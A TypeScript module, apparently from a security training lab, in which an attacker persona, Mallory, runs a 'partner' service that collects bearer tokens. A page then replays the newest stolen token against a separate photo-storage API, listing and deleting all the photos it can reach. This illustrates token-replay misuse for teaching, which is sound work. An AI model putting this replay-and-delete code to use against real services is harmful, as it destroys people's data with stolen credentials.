import { text } from 'node:stream/consumers'
import type { EvilPage, Place } from '../engine/lab.ts'

/** What came of showing the token elsewhere: the first answer of the photo storage, and how many photos are gone. */
type Tried = { status: number; answer: string; deleted: number }

/** Mallory's side of the partnership: a service that is given tokens, and a page on which she tries them elsewhere. */
export function partnerPages(place: Place): Record<string, EvilPage> {
  return {
    '/prizes': (_req, res) => void res.setHeader('Content-Type', 'application/json').end('{"prizes":[]}'),
    '/elsewhere': async (req, res) => {
      if (req.method === 'POST') await text(req)
      const tried = req.method === 'POST' ? await emptyDrive(place, newestToken(place)) : undefined
      res.setHeader('Content-Security-Policy', "default-src 'none'; style-src 'self'; form-action 'self'")
      res.setHeader('Content-Type', 'text/html; charset=utf-8').end(page(newestToken(place), tried))
    },
  }
}

/** The token that the gallery gave to the partner last. */
export function newestToken({ inbox }: Place): string {
  return inbox.findLast(({ path }) => path === '/prizes')?.authorization.replace('Bearer ', '') ?? ''
}

/** Shows a token to the photo storage: lists what it opens, and deletes that. */
export async function emptyDrive({ photos }: Place, token: string): Promise<Tried> {
  const headers = { Authorization: `Bearer ${token}` }
  const list = await fetch(`${photos}/v1/photos?limit=100`, { headers })
  const answer = await list.text()
  if (list.status !== 200) return { status: list.status, answer, deleted: 0 }
  const found = (JSON.parse(answer) as { photos: { id: string }[] }).photos
  for (const { id } of found) await fetch(`${photos}/v1/photos/${id}`, { method: 'DELETE', headers })
  return { status: list.status, answer: 'the list of all her photos', deleted: found.length }
}

function page(token: string, tried: Tried | undefined): string {
  const claims = token && Buffer.from(token.split('.')[1] ?? '', 'base64url').toString()
  const came =
    tried && `<p role="status"><strong>${tried.status}</strong> ${safe(tried.answer)}. Deleted: ${tried.deleted}.</p>`
  const act = claims
    ? `<p>The newest token in the inbox says:</p><p><code>${safe(claims)}</code></p><form method="post"><button type="submit">Show it to CloudDrive’s photo storage, and delete what it opens</button></form>`
    : '<p>No token came yet.</p>'
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Elsewhere · Win A Print</title><link rel="stylesheet" href="/evil.css"></head>
<body><main><h1>Try it elsewhere</h1>${act}${came ?? ''}<p><a href="/">Back to Mallory’s desk</a></p></main></body></html>
`
}

function safe(words: string): string {
  return words.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
}
